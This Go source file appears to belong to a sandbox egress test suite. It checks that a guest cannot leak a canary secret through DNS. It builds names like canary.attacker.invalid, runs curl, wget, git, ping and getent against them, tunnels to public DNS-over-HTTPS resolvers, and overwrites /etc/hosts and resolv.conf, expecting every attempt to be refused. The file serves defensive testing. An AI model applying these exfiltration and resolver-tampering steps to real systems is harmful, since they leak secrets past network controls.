package attack

import (
	"cmp"
	"context"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"time"

	"github.com/bot-bottle/action/internal/guest/probe"
)

func nameCases() []Case {
	answers := func(p *prober) Try { return p.answers() }
	const door = "the egress door answers on the alias"
	listed := func(p *prober) Try { return p.twinOf(p.plan.Hosts.Listed) }
	path := func(id, title, seed string) Case {
		return Case{ID: id, Title: title, Class: Names, Seed: seed, Tier: Quick, Layer: "no resolver in the guest", Twin: door, paths: true, twin: answers}
	}
	return []Case{
		{ID: "D01", Title: "a secret in a name, by the configured resolver", Class: Names, Seed: "4a", Tier: Quick, Layer: "no resolver in the guest",
			Twin: door, run: resolveSecret, twin: answers},
		{ID: "D02", Title: "a request to a name that carries data, where a proxy could resolve before it decides", Class: Names, Tier: Quick, Layer: byEgress,
			Rules: []string{"no-route"}, Twin: door, run: askSecretName, twin: answers},
		path("D03", "a question to a public resolver", "4b"),
		path("D04", "the same over TCP", ""),
		{ID: "D06", Title: "DNS over HTTPS to known resolvers", Class: Names, Tier: Quick, Layer: byEgress,
			Rules: []string{"no-route", "bad-request"}, Twin: door, run: dnsOverHTTPS, twin: answers},
		path("D07", "DNS over TLS and QUIC, mDNS, LLMNR, NetBIOS", ""),
		tested("D08", "data in the labels of a listed wildcard", "the egress door looks for the run's secrets in hosts, too", "internal/doors/dlp TestTheHeadOfARequestIsLookedAt", Names),
		{ID: "D10", Title: "a listed host that leads to a private address", Class: Names, Tier: Full, Layer: "the check of addresses after resolving",
			Rules: []string{"address-refused"}, Twin: "a listed name that leads where it may is reached", run: privateNames, twin: resolvedTwin},
		{ID: "D13", Title: "hosts, resolv.conf and nsswitch.conf written anew in the guest", Class: Names, Tier: Full, Layer: "the door resolves on the host",
			Twin: "the listed host is still the real one", run: rewriteNames, twin: listed},
		{ID: "D14", Title: "ping, getent, curl and git with a secret in the name, where the image has them", Class: Names, Tier: Quick, Layer: "no resolver in the guest",
			Rules: []string{"no-route"}, Twin: door, run: nameTools, twin: answers},
	}
}

func resolveSecret(p *prober) []Try {
	name := p.canary + ".attacker.invalid"
	return []Try{
		call("resolve "+name, WantDenied, func() error { return resolve(name) }),
		call("resolve a short name", WantDenied, func() error { return resolve(p.canary) }),
		call("resolve host.docker.internal", WantDenied, func() error { return resolve("host.docker.internal") }),
		call("resolve host.smolvm.internal", WantDenied, func() error { return resolve("host.smolvm.internal") }),
	}
}

// toolTime is how long a tool may take: it is started in the guest, which can be
// slow, and fails at once when it runs.
const toolTime = 10 * time.Second

// nameTools has real clients look names up, if the image has them.
func nameTools(p *prober) []Try {
	name := p.canary + ".attacker.invalid"
	var tries []Try
	for _, argv := range [][]string{
		{"getent", "hosts", name}, {"ping", "-c1", "-W1", name}, {"curl", "-sS", "--noproxy", "*", "http://" + name}, {"curl", "-sSf", "http://" + name},
		{"git", "ls-remote", "git://" + name + "/x"}, {"wget", "-q", "-O-", "http://" + name},
	} {
		path, err := exec.LookPath(argv[0])
		if err != nil {
			tries = append(tries, Try{Name: argv[0], Want: WantDenied, Outcome: probe.Refused, Detail: "the image doesn't have it"})
			continue
		}
		tries = append(tries, call(strings.Join(argv[:len(argv)-1], " "), WantDenied, func() error {
			ctx, cancel := context.WithTimeout(context.Background(), toolTime)
			defer cancel()
			err := exec.CommandContext(ctx, path, argv[1:]...).Run()
			return cmp.Or(ctx.Err(), err)
		}))
	}
	return tries
}

func askSecretName(p *prober) []Try {
	name := p.canary + ".attacker.invalid"
	return []Try{
		try("GET http://"+name, WantDoor, func() (answer, error) { return say(p.egress(), absolute(name, "/", name)) }),
		p.refusedTunnel(name+":443", name+":443"),
	}
}

// absolute is a proxy's request for a plain http URL.
func absolute(authority, path, host string, lines ...string) string {
	all := ""
	for _, l := range lines {
		all += l
	}
	return "GET http://" + authority + path + " HTTP/1.1\r\nHost: " + host + "\r\n" + all + "Connection: close\r\n\r\n"
}

// refusedTunnel tries to open one, and to say something in it.
func (p *prober) refusedTunnel(authority, host string) Try {
	return try("CONNECT "+authority, WantDoor, func() (answer, error) {
		c, a, err := p.tunnel(authority, host)
		if c != nil {
			c.Write([]byte(p.canary))
			c.Close()
		}
		return a, err
	})
}

func dnsOverHTTPS(p *prober) []Try {
	var tries []Try
	for _, host := range []string{"dns.google", "cloudflare-dns.com", "mozilla.cloudflare-dns.com", "dns.quad9.net", "8.8.8.8", "1.1.1.1"} {
		tries = append(tries, p.refusedTunnel(host+":443", host+":443"))
	}
	return tries
}

func privateNames(p *prober) []Try {
	var tries []Try
	for _, host := range p.plan.Hosts.Private {
		tries = append(tries, try("GET https://"+host, WantDoor, func() (answer, error) {
			return p.fetchAt(host, p.plan.Hosts.Port, get(at(host, p.plan.Hosts.Port), "/open/"+p.canary))
		}))
	}
	return tries
}

func resolvedTwin(p *prober) Try {
	host, port := p.plan.Hosts.Resolved, p.plan.Hosts.Port
	return try("GET https://"+host, "", func() (answer, error) {
		return p.fetchAt(host, port, get(at(host, port), "/open/twin", "X-Twin: "+p.twin+"\r\n"))
	})
}

func at(host string, port uint16) string { return fmt.Sprintf("%s:%d", host, port) }

func rewriteNames(p *prober) []Try {
	var tries []Try
	for path, text := range map[string]string{
		"/etc/hosts":         "192.0.2.1 " + p.plan.Hosts.Listed + "\n",
		"/etc/resolv.conf":   "nameserver 192.0.2.53\n",
		"/etc/nsswitch.conf": "hosts: dns files\n",
	} {
		old, err := os.ReadFile(path)
		tries = append(tries, call("write "+path, WantNothing, func() error { return os.WriteFile(path, []byte(text), 0o644) }))
		if err == nil {
			defer os.WriteFile(path, old, 0o644)
		} else {
			defer os.Remove(path)
		}
	}
	tries = append(tries, try("the listed host is another's now", WantDenied, func() (answer, error) {
		a, err := p.fetch(p.plan.Hosts.Listed, get(p.plan.Hosts.Listed, "/open/who"))
		if err == nil && a.status == http.StatusOK {
			return answer{}, errNothing // the stand-in answered: nothing was gained
		}
		return answer{}, err
	}))
	return tries
}
